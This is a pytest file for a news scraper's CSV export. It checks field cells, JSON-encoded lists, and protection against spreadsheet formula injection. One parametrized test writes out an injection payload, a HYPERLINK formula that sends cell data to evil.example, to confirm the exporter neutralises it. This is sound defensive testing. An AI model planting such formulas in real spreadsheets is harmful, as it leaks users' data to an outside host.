import csv
import io
import json
import re
from dataclasses import fields, replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsscrape.model.article import Article
from newsscrape.sinks.csv_rows import csv_head, csv_row
from newsscrape.sinks.jsonl import encode_article
from tests.records import BARE, FULL


def cells(article: Article) -> dict[str, str]:
    names, values = csv.reader(io.StringIO((csv_head() + csv_row(article)).decode(), newline=""))
    return dict(zip(names, values, strict=True))


def test_a_row_has_a_cell_for_each_field_of_the_record() -> None:
    found = cells(FULL)
    assert list(found) == [field.name for field in fields(Article)]
    assert found["headline"] == "Strom wird „billiger“"
    assert found["text"] == "Die Umlage fällt.\n\nEin Satz."
    assert (found["published_at"], found["published_date"]) == ("2026-11-02T10:00:00Z", "2026-11-02")
    assert (found["is_accessible_for_free"], found["word_count"], found["confidence"]) == ("false", "5", "0.9")


def test_lists_and_objects_are_json() -> None:
    record = json.loads(encode_article(FULL))
    found = cells(FULL)
    for name in ("authors", "paragraphs", "images", "boilerplate", "capture"):
        assert json.loads(found[name]) == record[name]


def test_unknown_is_an_empty_cell_and_the_empty_text_is_quoted() -> None:
    row = csv_row(BARE).decode()
    assert row.startswith('1,,,,"[]",,,')
    assert cells(BARE)["text"] == ""
    assert ',"",' in row
    assert row.endswith('}"\r\n')


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])  # noqa: RUF001 - as they come
def test_no_text_is_a_formula(sign: str) -> None:
    evil = f'{sign}HYPERLINK("https://evil.example?"&A1)'
    assert cells(replace(FULL, headline=evil))["headline"] == f"'{evil}"


@settings(deadline=None)
@given(st.text())
def test_any_text_stays_in_its_cell_and_computes_nothing(text: str) -> None:
    row = csv_row(replace(FULL, headline=text, kicker=text)).decode()
    found = next(csv.reader(io.StringIO(row, newline="")))
    assert len(found) == len(fields(Article))
    assert not [cell for cell in found if re.match("[=+@\t\r-]", cell)]
    # Whoever splits rows elsewhere, at semicolons or tabs, meets a text in quotes all the same.
    assert row.count('"') % 2 == 0
